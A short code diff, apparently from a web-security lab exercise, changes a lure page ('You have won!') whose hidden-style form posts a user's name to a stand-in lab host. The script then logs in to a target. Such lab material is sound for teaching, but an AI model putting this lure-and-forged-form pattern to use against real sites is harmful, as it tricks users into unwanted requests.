@@ -4,7 +4,7 @@ from target import http, my_name, my_password, victim_opens
 
 victim_opens(f"""
 <h1>You have won!</h1>
-<form action="http://lab.test/collectors" method="post"><input name="name" value="{my_name()}"></form>
+<form action="https://lab.test/collectors" method="post"><input name="name" value="{my_name()}"></form>
 """)
 
 http.post("/login", data={"name": my_name(), "password": my_password()})
